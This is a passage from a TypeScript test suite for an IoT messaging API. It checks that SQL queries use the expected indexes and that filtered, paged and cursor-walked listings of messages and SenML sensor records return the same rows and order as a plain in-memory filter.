    expect(await plan('SELECT * FROM messages WHERE channel_id = ? ORDER BY seq DESC LIMIT 10', ch)).toMatch(/SEARCH m USING (INDEX|PRIMARY KEY)/);
    expect(await plan('SELECT * FROM senml_records WHERE channel_id = ? AND name = ? ORDER BY time', ch, 'x')).toContain('senml_channel_name_time');
  });
});

describe('message listings over many messages: filters and pages as a plain filter would give them', () => {
  it('gives the same rows, total and order for publisher, time, subtopic, order and paging', async () => {
    const u = await newUser('m');
    const o = (await newOrg(u.token)).id;
    const c = (await api('POST', `/orgs/${o}/channels`, { token: u.token, body: { name: 'many' } })).body.id as string;
    // 300 messages as the actor stores them: created never decreases with seq, in ties of three.
    const base = 1_790_000_000_000;
    const publishers = ['dev-a', 'dev-b', 'dev-c', 'dev-rare'];
    const all = Array.from({ length: 300 }, (_, i) => {
      const seq = i + 1;
      // Runs of six from one publisher, so a publisher's messages tie on created too.
      return { seq, created: base + Math.floor(seq / 3) * 1000, publisher: seq % 50 === 0 ? 'dev-rare' : (publishers[Math.floor(seq / 6) % 3] as string), subtopic: seq % 4 === 0 ? 'b/c' : 'a' };
    });
    // Stored out of seq order, so no order can come from insertion order by accident.
    const stored = [...all].sort((x, y) => ((x.seq * 7919) % 300) - ((y.seq * 7919) % 300));
    await writeParts(env.DB, [{
      channel: c,
      publishers,
      messages: stored.map((m) => JSON.stringify([m.seq, m.subtopic, 'http', 'text/plain', m.created, 1, 'x', null, 0]).slice(1)),
      messagePublishers: stored.map((m) => publishers.indexOf(m.publisher)),
      records: [],
      recordPublishers: [],
    }]);
    const times = [undefined, base, base + 1000, base + 1500, base + 33_000, base + 99_000, base + 100_000, base + 200_000];
    let checked = 0;
    for (const publisher of [undefined, 'dev-rare', 'dev-b', 'nobody']) {
      for (const from of times) {
        for (const to of [undefined, base + 50_000, base + 50_500, base + 99_000, base + 1000]) {
          for (const subtopic of [undefined, 'a']) {
            const expected = all.filter((m) => (publisher === undefined || m.publisher === publisher) && (from === undefined || m.created >= from) && (to === undefined || m.created <= to) && (subtopic === undefined || m.subtopic === subtopic));
            const order = checked % 2 === 0 ? 'desc' : 'asc';
            const [limit, offset] = checked % 3 === 0 ? [7, 5] : [100, 0];
            const ordered = order === 'desc' ? [...expected].reverse() : expected;
            const params = new URLSearchParams({ order, limit: String(limit), offset: String(offset) });
            if (publisher !== undefined) params.set('publisher', publisher);
            if (from !== undefined) params.set('from', String(from));
            if (to !== undefined) params.set('to', String(to));
            if (subtopic !== undefined) params.set('subtopic', subtopic);
            const res = await api('GET', `/channels/${c}/messages?${params}`, { token: u.token });
            if (from !== undefined && to !== undefined && from > to) {
              expect(expectProblem(res, 400).detail).toContain('from must not be after to');
              continue;
            }
            expect(res.status, params.toString()).toBe(200);
            const got = { total: res.body.total, seqs: (res.body.items as { seq: number }[]).map((m) => m.seq), more: res.body.next !== null };
            expect(got, params.toString()).toEqual({ total: expected.length, seqs: ordered.slice(offset, offset + limit).map((m) => m.seq), more: offset + limit < expected.length });
            // The whole listing by cursor, without total: every row once, in order, and no empty last page.
            const pageSize = checked % 2 === 0 ? 29 : 97;
            const walked: number[] = [];
            let pages = 0;
            for (let next: string | null = null; pages === 0 || next !== null; pages++) {
              const p = new URLSearchParams(params);
              p.delete('offset');
              p.set('limit', String(pageSize));
              p.set('total', 'false');
              if (next !== null) p.set('cursor', next);
              const page = await api('GET', `/channels/${c}/messages?${p}`, { token: u.token });
              expect(page.status, p.toString()).toBe(200);
              expect(page.body.total).toBeUndefined();
              walked.push(...(page.body.items as { seq: number }[]).map((m) => m.seq));
              next = page.body.next as string | null;
            }
            expect(walked, params.toString()).toEqual(ordered.map((m) => m.seq));
            expect(pages).toBe(Math.max(1, Math.ceil(ordered.length / pageSize)));
            checked++;
          }
        }
      }
    }
    expect(checked).toBe(216); // every combination but those with from after to
  });
});

describe('SenML listings by cursor', () => {
  it('walks records with tied times across messages and packs in (time, seq, idx) order, both ways, with filters', async () => {
    const u = await newUser('sc');
    const o = (await newOrg(u.token)).id;
    const c = (await api('POST', `/orgs/${o}/channels`, { token: u.token, body: { name: 'senml-pages' } })).body.id as string;
    const publishers = ['dev-a', 'dev-b'];
    // 60 packs of 1 to 4 records; record times from a small set, so many tie across packs, and
    // records 0 and 1 (2 and 3) of a pack tie within it.
    const packs = Array.from({ length: 60 }, (_, i) => {
      const seq = i + 1;
      const records = Array.from({ length: 1 + (seq % 4) }, (_, idx) => ({ i: idx, n: idx % 2 ? 'hum' : 'temp', t: 1_790_000_000 + ((seq * 7 + Math.floor(idx / 2) * 3) % 11) * 0.5, v: seq * 10 + idx }));
      return { seq, publisher: seq % 3 === 0 ? 1 : 0, records };
    });
    const stored = [...packs].sort((x, y) => ((x.seq * 37) % 60) - ((y.seq * 37) % 60));
    await writeParts(env.DB, [{
      channel: c,
      publishers,
      messages: stored.map((p) => JSON.stringify([p.seq, 'room', 'mqtt', 'application/senml+json', 1_790_000_000_000 + p.seq, 1, '[]', null, 0]).slice(1)),
      messagePublishers: stored.map((p) => p.publisher),
      records: stored.map((p) => JSON.stringify([p.seq, 'room', 1_790_000_000_000 + p.seq, p.records]).slice(1)),
      recordPublishers: stored.map((p) => p.publisher),
    }]);
    const all = packs.flatMap((p) => p.records.map((r) => ({ time: r.t, seq: p.seq, idx: r.i, name: r.n, publisher: publishers[p.publisher], value: r.v })));
    all.sort((a, b) => a.time - b.time || a.seq - b.seq || a.idx - b.idx);
    const filters: Record<string, string>[] = [{}, { name: 'hum' }, { publisher: 'dev-b' }, { from: String(1_790_000_001_000), to: String(1_790_000_003_500) }, { v: '300', comparator: 'ge' }];
    for (const filter of filters) {       const expected = all.filter((r) => (filter.name === undefined || r.name === filter.name) && (filter.publisher === undefined || r.publisher === filter.publisher) && (filter.from === undefined || (r.time * 1000 >= Number(filter.from) && r.time * 1000 <= Number(filter.to))) && (filter.v === undefined || r.value >= 300));
      expect(expected.length).toBeGreaterThan(5);
      for (const order of ['asc', 'desc'] as const) {
        const want = (order === 'asc' ? expected : [...expected].reverse()).map((r) => `${r.seq}.${r.idx}`);
        const got: string[] = [];
        let next: string | null = null;
        do {
          const p = new URLSearchParams({ ...filter, format: 'senml', order, limit: '7', total: 'false', ...(next ? { cursor: next } : {}) });
          const page = await api('GET', `/channels/${c}/messages?${p}`, { token: u.token });
          expect(page.status, p.toString()).toBe(200);
          // a record's value is seq * 10 + idx: it names the record
          got.push(...(page.body.items as { seq: number; value: number }[]).map((r) => `${r.seq}.${r.value - r.seq * 10}`));
          next = page.body.next as string | null;
        } while (next !== null);
        expect(got, `${JSON.stringify(filter)} ${order}`).toEqual(want);
      }
    }
  });
});
